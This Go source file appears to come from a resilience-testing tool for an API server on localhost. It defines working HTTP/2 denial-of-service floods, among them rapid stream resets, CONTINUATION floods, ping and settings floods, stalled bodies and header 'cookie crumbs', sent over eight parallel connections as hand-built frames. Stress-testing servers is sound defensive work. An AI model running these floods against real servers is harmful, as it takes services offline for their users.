package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
)

// http2Attacks are floods over HTTP/2. The tests of transport/h2/internal/loop contain more floods,
// written frame by frame.
var http2Attacks = []attack{
	{"HTTP/2 resets", h2Flood(func(i uint32) []byte {
		return append(h2Frame(h2Headers, 5, 2*i+1, h2Request), h2Frame(h2Reset, 0, 2*i+1, []byte{0, 0, 0, 8})...)
	})},
	{"HTTP/2 reset lists", h2Flood(func(i uint32) []byte {
		return append(h2Frame(h2Headers, 5, 2*i+1, h2List), h2Frame(h2Reset, 0, 2*i+1, []byte{0, 0, 0, 8})...)
	})},
	{"HTTP/2 unread lists", h2Flood(func(i uint32) []byte {
		if i >= 100 {
			return nil
		}
		return h2Frame(h2Headers, 5, 2*i+1, h2List)
	})},
	{"HTTP/2 unfinished bodies", h2Flood(func(i uint32) []byte {
		if i%50 == 0 && i/50 < 50 {
			return h2Frame(h2Headers, 4, 2*(i/50)+1, h2Create)
		}
		return h2Frame(h2Data, 0, 2*(i/50%50)+1, make([]byte, 16<<10))
	})},
	{"HTTP/2 pings", h2Flood(func(uint32) []byte { return h2Frame(h2Ping, 0, 0, make([]byte, 8)) })},
	{"HTTP/2 settings", h2Flood(func(uint32) []byte { return h2Frame(h2Settings, 0, 0, nil) })},
	{"HTTP/2 empty data", h2Flood(func(i uint32) []byte {
		if i == 0 {
			return h2Frame(h2Headers, 4, 1, h2Create)
		}
		return h2Frame(h2Data, 0, 1, nil)
	})},
	{"HTTP/2 continuation", h2Flood(func(i uint32) []byte {
		if i == 0 {
			return h2Frame(h2Headers, 0, 1, h2Request)
		}
		return h2Frame(h2Continuation, 0, 1, bytes.Repeat([]byte{0x82}, 1000))
	})},
	{"HTTP/2 cookie crumbs", h2Flood(func(i uint32) []byte { return h2Frame(h2Headers, 5, 2*i+1, h2Crumbs) })},
}

// h2Flood returns an attack on eight connections. On each of them it calls next with 0, 1, 2 and so
// on, and sends the returned frames without reading. Once next returns nil, the attack sends
// nothing more, and discards what the server sends until the connection is closed.
func h2Flood(next func(i uint32) []byte) func(context.Context, *attacker) {
	return func(ctx context.Context, a *attacker) {
		parallel(ctx, 8, func() {
			c := a.dial(ctx)
			if c == nil {
				return
			}
			defer c.Close()
			frames := append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), h2Frame(h2Settings, 0, 0, nil)...)
			for i := uint32(0); ; i++ {
				frame := next(i)
				if frames = append(frames, frame...); frame != nil && len(frames) < 4<<10 {
					continue
				}
				if _, err := c.Write(frames); err != nil {
					a.count("closed")
					return
				}
				if frames = frames[:0]; frame == nil {
					_, _ = io.Copy(io.Discard, c)
				}
			}
		})
	}
}

// Types of frames (rfc9113#section-6).
const (
	h2Data         = 0
	h2Headers      = 1
	h2Reset        = 3
	h2Settings     = 4
	h2Ping         = 6
	h2Continuation = 9
)

// Header blocks (RFC 7541).
var (
	h2Request = []byte("\x82\x86\x84\x41\x09localhost")
	h2List    = []byte("\x82\x86\x04\x0c/api/v1/pods\x41\x09localhost")
	h2Crumbs  = append(append(bytes.Clone(h2Request), "\x60\x02ab"...), bytes.Repeat([]byte{0xbe}, 14_000)...)
	h2Create  = []byte("\x83\x86\x04\x25/api/v1/namespaces/default/configmaps\x41\x09localhost")
)

func h2Frame(kind, flags byte, stream uint32, payload []byte) []byte {
	f := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	f = append(f, flags)
	f = binary.BigEndian.AppendUint32(f, stream)
	return append(f, payload...)
}
